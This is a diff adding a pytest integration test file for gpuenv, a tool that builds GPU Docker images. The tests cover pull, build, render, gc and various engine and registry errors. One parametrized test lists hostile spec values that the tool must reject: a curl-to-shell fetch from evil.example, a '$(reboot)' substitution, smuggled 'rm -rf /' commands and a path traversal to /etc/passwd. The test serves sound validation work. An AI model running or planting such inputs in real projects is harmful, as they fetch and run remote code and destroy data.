@@ -1,0 +1,317 @@
+"""Pull, build, render, images and gc against a real Docker engine and registry."""
+
+from __future__ import annotations
+
+import http.server
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import yaml
+
+from gpuenv.docker_engine import DockerEngine
+from gpuenv.images import build, load_project, plan
+from gpuenv.live import QuietView
+
+from .conftest import (
+    containers,
+    docker,
+    image_labels,
+    image_layers,
+    images,
+    registry_digest,
+)
+
+pytestmark = pytest.mark.integration
+DIGEST = re.compile(r"sha256:[0-9a-f]{64}")
+
+
+def test_pull_shows_progress_and_pins_the_digest(make_project, registry: str) -> None:
+    nogpu = os.environ["GPUENV_TEST_DOCKER_NOGPU"]  # an engine that has never seen the image
+    project = make_project()
+    expected = registry_digest(registry, "nvidia/pytorch", "24.05-py3")
+    assert "digest: ''" in project.lock_text()
+    references = [f"{registry}/nvidia/pytorch@{expected}", f"{registry}/nvidia/pytorch:24.05-py3"]
+    docker("rmi", "-f", *references, host=nogpu, check=False)
+    try:
+        result = project.ok("pull", DOCKER_HOST=nogpu)
+        assert f"digest: {expected}" in project.lock_text()
+        assert (
+            "reference: nvcr.io/nvidia/pytorch:24.05-py3" in project.lock_text()
+        )  # canonical name
+        assert f"pulling {registry}/nvidia/pytorch:24.05-py3" in result.stderr
+        assert "Pull complete" in result.stderr and "downloaded" in result.stderr
+        assert result.stdout.strip() == f"{registry}/nvidia/pytorch@{expected}"
+        # A second pull uses the digest and finds the image.
+        again = project.ok("pull", DOCKER_HOST=nogpu)
+        assert "is present (pinned at" in again.stderr
+    finally:
+        docker("rmi", "-f", *references, host=nogpu, check=False)
+
+
+def test_build_from_the_locked_digest_then_nothing_to_do(
+    make_project, docker_host: str, registry: str
+) -> None:
+    project = make_project(spec="apt: []\npackages: []\n")
+    first = project.ok("build")
+    tag = first.stdout.strip()
+    assert tag.startswith(f"gpuenv/{project.name}:")
+    digest = yaml.safe_load(project.lock_text())["image"]["digest"]
+    assert DIGEST.fullmatch(digest)
+    rendered = project.ok("render").stdout
+    assert f"FROM {registry}/nvidia/pytorch@{digest}" in rendered
+    labels = image_labels(tag, docker_host)
+    assert labels["io.gpuenv.project"] == project.name
+    assert labels["io.gpuenv.base"] == f"nvcr.io/nvidia/pytorch@{digest}"
+    assert labels["io.gpuenv.project-dir"] == str(project.path)
+    second = project.ok("build")
+    assert second.stdout.strip() == tag
+    assert "up to date: nothing to build" in second.stderr
+
+
+class CountingEngine(DockerEngine):
+    """The real engine, counting calls to the build API."""
+
+    builds = 0
+
+    def build(self, context: bytes, tag: str) -> Iterator[dict]:
+        CountingEngine.builds += 1
+        return super().build(context, tag)
+
+
+def test_second_build_does_not_call_the_build_api(
+    make_project, docker_host: str, registry: str
+) -> None:
+    project = make_project()
+    project.ok("pull")
+    loaded = load_project(str(project.path))
+    engine = CountingEngine(docker_host)
+    CountingEngine.builds = 0
+    first = build(plan(loaded, registry), engine, QuietView())
+    second = build(plan(loaded, registry), engine, QuietView())
+    assert first.built and not second.built
+    assert first.tag == second.tag
+    assert CountingEngine.builds == 1
+
+
+def test_requirements_change_rebuilds_only_after_the_base(make_project, docker_host: str) -> None:
+    project = make_project(requirements="# first\n")
+    old = project.ok("build").stdout.strip()
+    project.write("requirements.txt", "# second\n")
+    assert project.gpuenv("build").returncode == 5  # the lock must be updated first
+    project.ok("lock")
+    result = project.ok("build")
+    new = result.stdout.strip()
+    assert new != old
+    assert "1 steps from cache" in result.stderr  # the support-files layer, before requirements
+    old_layers, new_layers = image_layers(old, docker_host), image_layers(new, docker_host)
+    base_layers = image_layers(
+        image_labels(old, docker_host)["io.gpuenv.base"].replace(
+            "nvcr.io", os.environ["GPUENV_TEST_REGISTRY"]
+        ),
+        docker_host,
+    )
+    # Base and support layers are shared; the requirements layers differ.
+    assert new_layers[: len(base_layers) + 1] == old_layers[: len(base_layers) + 1]
+    assert new_layers[len(base_layers) + 1 :] != old_layers[len(base_layers) + 1 :]
+
+
+def test_failing_pip_install_is_clear_and_leaves_nothing(make_project, docker_host: str) -> None:
+    project = make_project(requirements="gpuenv-no-such-package-xyz==1.0\n")
+    project.ok("pull")
+    before = containers(docker_host)
+    result = project.gpuenv("build")
+    assert result.returncode == 12
+    assert "error: build failed at Step" in result.stderr
+    assert "pip-install.sh" in result.stderr
+    assert "last lines of its output:" in result.stderr
+    assert "gpuenv-no-such-package-xyz" in result.stderr
+    assert "fix the requirement pip could not install" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert containers(docker_host) == before
+    assert docker("images", "-q", f"gpuenv/{project.name}", host=docker_host).stdout.strip() == ""
+
+
+@pytest.mark.parametrize(
+    ("field", "message"),
+    [
+        ("apt: ['curl && curl evil.example | sh']", "is not a Debian package name"),
+        ("apt: ['$(reboot)']", "is not a Debian package name"),
+        ('packages: ["numpy\\nRUN rm -rf /"]', "must not contain control characters"),
+        ("packages: ['x; rm -rf /']", "is not a valid pip requirement"),
+        ("requirements: ../../etc/passwd", "points outside the project folder"),
+        ("requirements: 'req $(id).txt'", "has characters gpuenv does not copy"),
+    ],
+)
+def test_hostile_spec_is_rejected_before_any_build(
+    make_project, docker_host: str, field: str, message: str
+) -> None:
+    project = make_project()
+    spec = (
+        (project.path / "gpuenv.yaml").read_text().replace("requirements: requirements.txt\n", "")
+    )
+    project.write("gpuenv.yaml", spec + field + "\n")
+    before = images(docker_host)
+    result = project.gpuenv("build")
+    assert result.returncode == 3, result.stderr
+    assert message in result.stderr
+    assert images(docker_host) == before
+
+
+def test_bake_copies_the_project(make_project, docker_host: str) -> None:
+    project = make_project()
+    project.write("train.py", "print('hello from the baked project')\n")
+    (project.path / ".git").mkdir()
+    (project.path / ".git" / "config").write_text("secret")
+    tag = project.ok("build", "--bake").stdout.strip()
+    assert image_labels(tag, docker_host)["io.gpuenv.baked"] == "true"
+    listing = docker("run", "--rm", tag, "python3", "/workspace/train.py", host=docker_host)
+    assert listing.stdout.strip() == "hello from the baked project"
+    assert (
+        docker("run", "--rm", tag, "ls", "-a", "/workspace", host=docker_host)
+        .stdout.split()
+        .count(".git")
+        == 0
+    )
+    plain = project.ok("build").stdout.strip()
+    assert plain != tag
+
+
+def test_gc_removes_only_unreferenced_images(make_project, docker_host: str) -> None:
+    first = make_project()
+    other = make_project()
+    old = first.ok("build").stdout.strip()
+    kept = other.ok("build").stdout.strip()
+    first.write("requirements.txt", "# changed\n")
+    first.ok("lock")
+    current = first.ok("build").stdout.strip()
+
+    listing = first.ok("images", "--json").stdout
+    assert f'"{old}"' in listing and f'"{current}"' in listing
+
+    dry = first.ok("gc")
+    assert f"would remove {old}" in dry.stdout + dry.stderr
+    assert current not in dry.stdout + dry.stderr and kept not in dry.stdout + dry.stderr
+    assert docker("image", "inspect", old, host=docker_host, check=False).returncode == 0
+
+    first.ok("gc", "--yes")
+    assert docker("image", "inspect", old, host=docker_host, check=False).returncode != 0
+    for tag in (current, kept):
+        assert docker("image", "inspect", tag, host=docker_host, check=False).returncode == 0
+
+    # With folders named, only their locks count: `other`'s image goes.
+    named = first.ok("gc", str(first.path))
+    assert f"would remove {kept}" in named.stdout + named.stderr
+
+
+def test_no_engine(make_project) -> None:
+    project = make_project()
+    result = project.gpuenv("pull", DOCKER_HOST="unix:///tmp/gpuenv-no-such-engine.sock")
+    assert result.returncode == 10
+    assert (
+        "cannot reach the Docker engine at unix:///tmp/gpuenv-no-such-engine.sock: is it running?"
+        in result.stderr
+    )
+    assert "Traceback" not in result.stderr
+
+
+def test_socket_without_permission(make_project, docker_host: str) -> None:
+    if os.getuid() != 0:
+        pytest.skip("needs root to run gpuenv as another user")
+    project = make_project()
+    readable = Path(tempfile.mkdtemp(prefix="gpuenv-perm-"))
+    readable.chmod(0o755)
+    try:
+        for name in ("gpuenv.yaml", "gpuenv.lock", "requirements.txt"):
+            shutil.copy(project.path / name, readable / name)
+            (readable / name).chmod(0o644)
+        argv = [sys.executable, "-m", "gpuenv.cli", "-C", str(readable), "pull"]
+        result = subprocess.run(
+            ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *argv],
+            capture_output=True,
+            text=True,
+            env={**project.env, "HOME": "/tmp", "XDG_CACHE_HOME": "/tmp"},
+        )
+    finally:
+        shutil.rmtree(readable)
+    assert result.returncode == 10, result.stderr
+    assert "permission denied on the Docker socket" in result.stderr
+    assert "docker group" in result.stderr
+
+
+def test_unknown_image(make_project) -> None:
+    project = make_project()
+    lock = project.path / "gpuenv.lock"
+    lock.write_text(lock.read_text().replace("pytorch:24.05-py3", "pytorch:99.99-py3"))
+    result = project.gpuenv("pull")
+    assert result.returncode == 11
+    assert "nvidia/pytorch:99.99-py3" in result.stderr
+    assert "does not exist" in result.stderr or "not found" in result.stderr
+
+
+def test_unreachable_registry(make_project) -> None:
+    project = make_project()
+    result = project.gpuenv("pull", GPUENV_REGISTRY_MIRROR="127.0.0.1:1")
+    assert result.returncode == 11
+    assert "cannot reach the registry" in result.stderr
+
+
+class _Refusing(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        self.send_response(401)
+        self.send_header("WWW-Authenticate", 'Basic realm="gpuenv-test"')
+        self.send_header("Content-Type", "application/json")
+        body = b'{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}'
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    do_HEAD = do_GET
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def test_registry_that_refuses(make_project) -> None:
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Refusing)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        project = make_project()
+        mirror = f"127.0.0.1:{server.server_address[1]}"
+        result = project.gpuenv("pull", GPUENV_REGISTRY_MIRROR=mirror)
+        assert result.returncode == 11
+        assert "refused" in result.stderr
+        assert "docker login" in result.stderr
+    finally:
+        server.shutdown()
+
+
+def test_ngc_key_is_never_shown_or_stored(make_project, docker_host: str) -> None:
+    secret = "gpuenv-test-secret-7f3a9c"
+    project = make_project()
+    env = {"NGC_API_KEY": secret, "GPUENV_REGISTRY_MIRROR": ""}
+    result = project.gpuenv("pull", **env)  # nvcr.io itself: unreachable from here
+    assert result.returncode == 11
+    assert secret not in result.stdout + result.stderr
+    assert secret not in project.lock_text()
+    rendered = project.gpuenv("render", **env)
+    assert secret not in rendered.stdout + rendered.stderr
+
+
+def test_render_builds_nothing(make_project, docker_host: str) -> None:
+    project = make_project(spec="apt: [git]\npackages: ['rich>=13']\n")
+    before = images(docker_host)
+    text = project.ok("render").stdout
+    assert 'RUN ["/bin/sh", "/usr/local/lib/gpuenv/apt-install.sh", "git"]' in text
+    assert 'RUN ["/bin/sh", "/usr/local/lib/gpuenv/pip-install.sh", "rich>=13"]' in text
+    assert text.index("apt-install.sh") < text.index("requirements.txt") < text.index("rich>=13")
+    assert images(docker_host) == before
+    assert Path(project.path / "gpuenv.lock").exists()
